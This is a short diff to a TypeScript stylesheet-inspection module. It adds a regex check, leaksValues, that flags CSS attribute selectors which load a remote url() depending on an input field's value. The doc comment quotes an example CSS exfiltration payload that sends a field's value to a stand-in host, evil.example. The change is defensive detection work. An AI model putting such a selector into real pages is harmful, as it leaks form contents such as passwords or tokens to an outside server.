@@ -34,6 +34,12 @@ export const imports = (style: string): boolean => {
   return lower.includes('@import') || (lower.includes('\\') && plainCss(lower).includes('@import'))
 }
 
+/** A sheet that asks a stranger for a picture by what a field holds: `input[value^=a]{background:url(//evil.example/?a)}`. */
+export const leaksValues = (style: string): boolean =>
+  /\[\s{0,2}value\s{0,2}[\^$*]?=[^\]]{1,40}\][^{}]{0,40}\{[^}]{0,80}url\(\s{0,2}["']?(?:https?:)?\/\//i.test(
+    style.slice(0, LOOK_MAX),
+  )
+
 const plainCss = (style: string): string => {
   work.left -= ESCAPED_WORK * style.length
   let out = ''
